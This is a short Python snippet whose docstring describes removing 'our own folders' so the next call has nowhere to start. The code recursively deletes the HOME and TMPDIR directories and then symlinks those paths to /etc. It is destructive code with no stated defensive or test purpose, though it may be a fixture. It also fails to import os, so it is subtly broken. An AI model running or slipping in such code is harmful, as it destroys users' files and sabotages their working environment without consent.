"""Remove and rename our own folders: the next call has nowhere to start."""

import shutil

home, temp = os.environ["HOME"], os.environ["TMPDIR"]
os.chdir("/")
for folder in (home, temp):
    shutil.rmtree(folder, ignore_errors=True)
    try:
        os.rename(folder, folder + "-gone")
    except OSError:
        pass
    try:
        os.symlink("/etc", folder)
    except OSError:
        pass
